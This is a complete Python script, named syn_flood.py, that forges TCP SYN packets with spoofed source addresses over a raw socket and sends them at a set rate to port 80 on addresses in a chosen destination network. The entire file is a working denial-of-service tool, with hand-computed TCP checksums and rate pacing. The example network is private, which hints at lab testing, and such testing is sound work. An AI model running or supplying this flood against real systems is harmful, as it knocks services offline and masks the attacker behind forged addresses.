"""SYNs with made-up sources, as fast as told: syn_flood.py SOURCES DESTINATIONS COUNT RATE SEED (networks as 10.5.0.16/28).

Runs where packets of those sources are routed from, as root; prints how many went out. Each names another pair of ends.
"""

import ipaddress
import random
import socket
import struct
import sys
import time

BURST = 200  # packets between two looks at the clock


def words(address):
    return (address >> 16) + (address & 0xFFFF)


def main():
    sources, destinations = (ipaddress.ip_network(text) for text in sys.argv[1:3])
    count, rate, seed = (int(text) for text in sys.argv[3:6])
    dice = random.Random(seed)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    first_source, first_destination = int(sources.network_address), int(destinations.network_address)
    sent, begin = 0, time.monotonic()
    for number in range(count):
        # Every source in turn, every destination, and a port that is not used again soon.
        source = first_source + number % sources.num_addresses
        destination = first_destination + dice.randrange(destinations.num_addresses)
        port, sequence = 1024 + number // sources.num_addresses % 64000, dice.getrandbits(32)
        total = words(source) + words(destination) + 6 + 24 + port + 80 + words(sequence) + 0x6002 + 64240 + 0x0204 + 1460
        total = (total & 0xFFFF) + (total >> 16)
        checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        # The kernel fills in length and checksum of the IP header.
        packet = struct.pack(">BBHHHBBHII HHIIBBHHHBBH", 0x45, 0, 44, 0, 0, 64, 6, 0, source, destination,
                             port, 80, sequence, 0, 0x60, 2, 64240, checksum, 0, 2, 4, 1460)
        try:
            out.sendto(packet, (socket.inet_ntoa(struct.pack(">I", destination)), 0))
            sent += 1
        except OSError:
            pass  # a queue on the way is full
        if number % BURST == 0:
            time.sleep(max(0, begin + number / rate - time.monotonic()))
    print(f"sent {sent} in {time.monotonic() - begin:.1f} s", flush=True)


main()
